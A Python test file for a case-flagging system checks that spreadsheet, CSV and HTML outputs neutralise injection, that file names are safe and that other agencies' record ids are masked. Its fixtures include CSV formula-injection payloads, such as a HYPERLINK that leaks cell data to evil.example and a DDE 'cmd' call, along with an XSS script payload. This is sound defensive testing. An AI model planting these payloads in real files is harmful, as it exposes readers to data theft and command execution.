"""Outputs that cannot be turned against their readers (issue 16).

Formula payloads in every file a person may open, masking by exact identity with punctuated,
spaced and non-ASCII ids, and file names from ids that never collide.
"""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import datetime
from pathlib import Path
from xml.etree import ElementTree

import fastexcel
import pytest
from check_fixtures import insert
from test_audit_sample import AS_AT, add_cohort_child, add_run
from test_outputs_lifecycle import ALL_EVALUATED, DAY1, exc, record_run

from caseflags.audit.outcomes import import_audit_outcomes
from caseflags.audit.sampling import choose_sample
from caseflags.audit.workbook import pack_file_name, write_sample
from caseflags.outputs.agencies import MASK, mask_ids
from caseflags.outputs.files import is_formula_like, neutralise, safe_file_stem
from caseflags.outputs.lifecycle import update_lifecycle
from caseflags.outputs.run_outputs import write_run_outputs
from caseflags.outputs.stage import write_quarantine_csv

# One payload per dangerous first character (OWASP CSV injection), and an HTML one.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    ' =HYPERLINK("http://evil.example/","click")',
    "\u00a0=1+1",
    "\n=1+1",
    "\x0b@SUM(1)",
    "\u200b=1+1",
    "\uff1d1+1",
]
HTML_PAYLOAD = '<script>alert("x")</script><img src=x onerror=alert(1)>'

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


# The test's own reading of OWASP: after any whitespace, control or zero-width characters, a
# formula prefix (or its full-width form); or a leading tab or carriage return.
_DANGEROUS = re.compile(
    r"[\s\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202f\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r]"
)


def dangerous(text: str) -> bool:
    return bool(_DANGEROUS.match(text))


def csv_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def assert_csv_neutralised(path: Path, payloads=PAYLOADS) -> None:
    cells = csv_cells(path)
    assert not [c for c in cells if dangerous(c)], path
    text = "\n".join(cells)
    for payload in payloads:
        assert "'" + payload in text, (path, payload)  # kept, made inert


def xlsx_cells(path: Path) -> list[dict]:
    """Every cell of every sheet: its text, whether it holds a formula, and whether its style
    carries Excel's quote prefix (read from the raw XML parts, not through a spreadsheet library)."""
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            root = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in root.findall("m:si", NS)]
        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
        quoted = [xf.get("quotePrefix") == "1" for xf in styles.find("m:cellXfs", NS).findall("m:xf", NS)]
        cells = []
        for name in names:
            if not re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                continue
            root = ElementTree.fromstring(archive.read(name))
            for c in root.iter(f"{{{NS['m']}}}c"):
                value = c.find("m:v", NS)
                inline = c.find("m:is", NS)
                if c.get("t") == "s" and value is not None:
                    text = shared[int(value.text)]
                elif inline is not None:
                    text = "".join(t.text or "" for t in inline.iter(f"{{{NS['m']}}}t"))
                else:
                    text = value.text if value is not None else ""
                text = re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text or "")
                cells.append(
                    {
                        "sheet": name,
                        "ref": c.get("r"),
                        "text": text,
                        "formula": c.find("m:f", NS) is not None,
                        "quoted": quoted[int(c.get("s", "0"))],
                    }
                )
        return cells


def assert_xlsx_neutralised(path: Path, payloads=PAYLOADS) -> None:
    cells = xlsx_cells(path)
    assert not [c for c in cells if c["formula"]], path
    unquoted = [c for c in cells if dangerous(c["text"]) and not c["quoted"]]
    assert not unquoted, (path, unquoted[:3])
    texts = {c["text"] for c in cells}
    for payload in payloads:
        assert payload in texts, (path, payload)  # the exact value is kept


# --- every output of a run --------------------------------------------------------------------


def _run_with_payloads(store):
    insert(
        store,
        "person_links",
        agency="GP",
        agency_record_id="GP-1",
        person_id="C1",
        method="NHS_NUMBER",
        match_probability=1.0,
    )
    rows = []
    for i, payload in enumerate(PAYLOADS):
        rows.append(exc("GP_NOT_KNOWN", f"C{i}", detail=payload, locator=payload))
        rows.append(
            exc(
                "SOCIAL_WORKER_STALE_IN_PARTNER",
                f"C{i}",
                agency="GP",
                entity_type="agency_record",
                entity_id=payload,
                detail=f"{payload}",
                locator=payload,
            )
        )
    rows.append(exc("IDENTITY_CONFLICT", "C1", detail=HTML_PAYLOAD, locator=HTML_PAYLOAD))
    record_run(store, "run-1", DAY1, rows, {**ALL_EVALUATED, **{r["check_id"]: "EVALUATED" for r in rows}})
    update_lifecycle(store, "run-1", DAY1)
    insert(
        store,
        "quarantine",
        run_id="run-1",
        table_name="ssd_person",
        file="ssd_person.csv",
        line=7,
        column_name="pers_dob",
        reason="not a date",
        raw_line=PAYLOADS[0],
    )
    for i, payload in enumerate(PAYLOADS[1:], start=8):
        insert(
            store,
            "quarantine",
            run_id="run-1",
            table_name="ssd_person",
            file=payload,
            line=i,
            column_name="pers_dob",
            reason=payload,
            raw_line=payload,
        )


def test_formula_payloads_are_inert_in_every_file_of_a_run(store, tmp_path):
    _run_with_payloads(store)
    outputs = write_run_outputs(store, "run-1", DAY1, tmp_path)
    write_quarantine_csv(store, "run-1", tmp_path)

    assert_csv_neutralised(outputs.exceptions_csv)
    assert_xlsx_neutralised(outputs.exceptions_xlsx)
    gp_csv, gp_xlsx = outputs.agency_files["GP"]
    assert_csv_neutralised(gp_csv)
    assert_xlsx_neutralised(gp_xlsx)
    social_csv, social_xlsx = outputs.agency_files["SOCIAL_CARE"]
    assert_csv_neutralised(social_csv)
    assert_xlsx_neutralised(social_xlsx)
    assert_csv_neutralised(tmp_path / "quarantine.csv")

    report = outputs.report_html.read_text(encoding="utf-8")
    assert "<script>alert" not in report and "<img src=x" not in report


def test_the_untouched_workbook_imports_with_nothing_changed(store, tmp_path):
    from caseflags.outputs.review_import import import_review

    _run_with_payloads(store)
    outputs = write_run_outputs(store, "run-1", DAY1, tmp_path)
    summary = import_review(store, outputs.exceptions_xlsx, now=datetime(2026, 11, 24, 9))
    assert summary.annotations_added == 0 and summary.rows_read == 2 * len(PAYLOADS) + 1


# --- the audit sample ------------------------------------------------------------------------

FORMULA_CHILD = '=HYPERLINK("http://evil.example","open")'


def test_audit_workbook_and_packs_hold_no_live_formula_and_import_untouched(store, tmp_path):
    add_run(store)
    add_cohort_child(store, FORMULA_CHILD, checks=["GP_NOT_KNOWN"])
    add_cohort_child(store, "@child", checks=["VOICE_OF_CHILD_ABSENT"])
    add_cohort_child(store, "-child", checks=[])
    result = choose_sample(store, AS_AT, size=3, controls=1, seed=1)
    workbook = write_sample(store, result, tmp_path)
    assert_xlsx_neutralised(workbook, payloads=[FORMULA_CHILD, "@child", "-child"])
    # Read back exactly: the ids compare equal to the store's.
    listed = fastexcel.read_excel(str(workbook)).load_sheet("Sample", dtypes="string").to_arrow().to_pylist()
    assert {row["person_id"] for row in listed} == {FORMULA_CHILD, "@child", "-child"}
    summary = import_audit_outcomes(store, workbook, recorded_at=datetime(2026, 11, 30, 9))
    assert summary.rows_imported == 0 and summary.pending == 2  # nothing filled in, nothing refused

    page = (workbook.parent / "packs" / pack_file_name(FORMULA_CHILD)).read_text(encoding="utf-8")
    assert "&quot;http://evil.example&quot;" in page and '"http://evil.example"' not in page


def test_children_whose_ids_sanitise_alike_get_their_own_packs(store, tmp_path):
    add_run(store)
    alike = ["C/1", "C_1", "C:1", "C 1", "C\\1", "../C1"]
    for person_id in alike:
        add_cohort_child(store, person_id, checks=["GP_NOT_KNOWN"])
    result = choose_sample(store, AS_AT, size=len(alike), controls=0, seed=1)
    workbook = write_sample(store, result, tmp_path)
    packs = list((workbook.parent / "packs").iterdir())
    assert len(packs) == len(alike)
    for person_id in alike:
        page = (workbook.parent / "packs" / pack_file_name(person_id)).read_text(encoding="utf-8")
        assert f"child {person_id}" in page.replace("&#x27;", "'")
    assert all(p.parent == workbook.parent / "packs" for p in packs)


@pytest.mark.parametrize("identifier", ["C/1", "..", "", "a" * 300, "Ω-7", "x\x00y", ".hidden", "CON"])
def test_file_stems_are_safe(identifier):
    stem = safe_file_stem(identifier)
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_-]{0,52}", stem), stem


def test_file_stems_are_unique_for_ids_that_sanitise_alike():
    ids = ["C/1", "C_1", "C:1", "C 1", "C\\1", "C_1 ", "c_1", "Ç_1"]
    assert len({safe_file_stem(i) for i in ids}) == len(ids)


# --- masking by exact identity ------------------------------------------------------------------


@pytest.mark.parametrize(
    "hidden",
    [
        "-NBT-77-",
        "(AWP)42",
        "NBT.1234.",
        "ID 42",
        "Ωμέγα-7",
        "ünï_çødé",
        "+44",
        "A\\B",
        "x.y*z",
        "[R1]",
    ],
)
def test_masking_hides_punctuated_spaced_and_unicode_ids(hidden):
    texts = [
        f"{hidden}",
        f"record {hidden} is current",
        f"record {hidden}.",
        f"({hidden})",
        f"ids: {hidden};{hidden}",
        f"{hidden} at start",
        f"at end {hidden}",
    ]
    for text in texts:
        masked = mask_ids(text, [hidden])
        assert hidden not in masked, (text, masked)
        assert MASK in masked


def test_masking_leaves_longer_tokens_and_the_agencys_own_ids():
    assert mask_ids("record AB12 and AB123", ["AB12"]) == f"record {MASK} and AB123"
    assert mask_ids("own NBT-123, other 123", ["123"], visible=["NBT-123"]) == f"own NBT-123, other {MASK}"
    assert mask_ids("ids 12345 and 1234", ["1234", "12345"]) == f"ids {MASK} and {MASK}"
    assert mask_ids(None, ["x"]) is None and mask_ids("text", []) == "text"


def test_agency_files_never_show_punctuated_ids_of_other_agencies(store, tmp_path):
    records = {"SOCIAL_CARE": "-C.100-", "GP": "GP 55/01", "COMMUNITY_HEALTH": "(Sirona)ü-7", "ACUTE_HEALTH": "NBT.9."}
    for agency, record_id in records.items():
        insert(
            store,
            "person_links",
            agency=agency,
            agency_record_id=record_id,
            person_id="-C.100-",
            method="LA_ID" if agency == "SOCIAL_CARE" else "NHS_NUMBER",
            match_probability=1.0,
        )
    mention = "; ".join(records.values())
    rows = [
        exc(
            "IDENTITY_CONFLICT",
            "-C.100-",
            agency="ACUTE_HEALTH",
            entity_type="agency_record",
            entity_id="NBT.9.",
            detail=f"DOB on NBT.9. differs; also known as {mention}.",
            locator="(Sirona)ü-7",
        ),
        exc(
            "GP_NOT_KNOWN",
            "-C.100-",
            agency="GP",
            entity_type="agency_record",
            entity_id="(Sirona)ü-7",
            detail=f"-C.100- {mention}",
            locator="GP 55/01",
        ),
    ]
    record_run(store, "run-1", DAY1, rows, {**ALL_EVALUATED, **{r["check_id"]: "EVALUATED" for r in rows}})
    update_lifecycle(store, "run-1", DAY1)
    outputs = write_run_outputs(store, "run-1", DAY1, tmp_path)
    for agency, (agency_csv, agency_xlsx) in outputs.agency_files.items():
        texts = csv_cells(agency_csv) + [c["text"] for c in xlsx_cells(agency_xlsx)]
        blob = "\n".join(texts)
        for other, record_id in records.items():
            if other != agency:
                assert record_id not in blob, (agency, other, record_id)
        assert records[agency] in blob  # its own id is still there


def test_organisation_rows_mask_punctuated_ids_exactly_like_the_agency_files(store, tmp_path):
    """The organisation folders and the web read exception_agency_rows: its text is masked by the
    same exact-identity masking as the agency files, never by a word-bounded pattern."""
    from caseflags.outputs.organisations import record_agency_rows

    records = {"SOCIAL_CARE": "-C.100-", "GP": "GP 55/01", "COMMUNITY_HEALTH": "(Sirona)ü-7", "ACUTE_HEALTH": "NBT.9."}
    for agency, record_id in records.items():
        insert(
            store,
            "person_links",
            agency=agency,
            agency_record_id=record_id,
            person_id="-C.100-",
            method="LA_ID" if agency == "SOCIAL_CARE" else "NHS_NUMBER",
            match_probability=1.0,
        )
    mention = "; ".join(records.values())
    rows = [
        exc(
            "GP_NOT_KNOWN",
            "-C.100-",
            agency="GP",
            entity_type="agency_record",
            entity_id="(Sirona)ü-7",
            detail=f"-C.100- {mention}",
            locator="NBT.9. and GP 55/01",
        )
    ]
    record_run(store, "run-1", DAY1, rows, {**ALL_EVALUATED, **{r["check_id"]: "EVALUATED" for r in rows}})
    update_lifecycle(store, "run-1", DAY1)
    write_run_outputs(store, "run-1", DAY1, tmp_path)
    record_agency_rows(store, "run-1", DAY1)
    texts = store.execute(
        "SELECT agency_detail, agency_locator, agency_entity_id FROM exception_agency_rows WHERE run_id = 'run-1'"
    ).fetchall()
    assert len(texts) == 1
    blob = "\n".join(t or "" for t in texts[0])
    for other in ("SOCIAL_CARE", "COMMUNITY_HEALTH", "ACUTE_HEALTH"):
        assert records[other] not in blob, (other, blob)
    assert records["GP"] in blob  # the practice's own record id stays


# --- one neutraliser, one writer ----------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_one_neutraliser_catches_leading_whitespace_and_control_characters(payload):
    assert is_formula_like(payload) and neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", ["", "plain", "C-100", " plain text", "100", "'=1+1", "a=b", "\u200bword"])
def test_the_neutraliser_leaves_ordinary_text_alone(text):
    assert not is_formula_like(text) and neutralise(text) == text


SOURCE_ROOTS = [Path(__file__).resolve().parent.parent / folder for folder in ("caseflags", "flows")]
THE_WRITER = Path(__file__).resolve().parent.parent / "caseflags" / "outputs" / "files.py"
# A second neutraliser or a writer that bypasses the one in caseflags/outputs/files.py.
BYPASSES = re.compile(
    r"""xlsxwriter\.Workbook\(|csv\.(?:writer|DictWriter)\(|["']=["']\s*,\s*["']\+["']|"'"\s*\+\s*\w+\s+if\b"""
    r"""|quote_prefix|strings_to_formulas"""
)


def test_no_other_neutraliser_or_spreadsheet_writer_exists():
    """Every CSV and XLSX a person may open is written by caseflags/outputs/files.py, so its one
    neutraliser applies to all of them (the web's exports included)."""
    found = []
    for root in SOURCE_ROOTS:
        for path in root.rglob("*.py"):
            if path == THE_WRITER or "sample_data" in path.parts:
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
                if BYPASSES.search(line):
                    found.append(f"{path.name}:{number}: {line.strip()}")
    assert not found, found
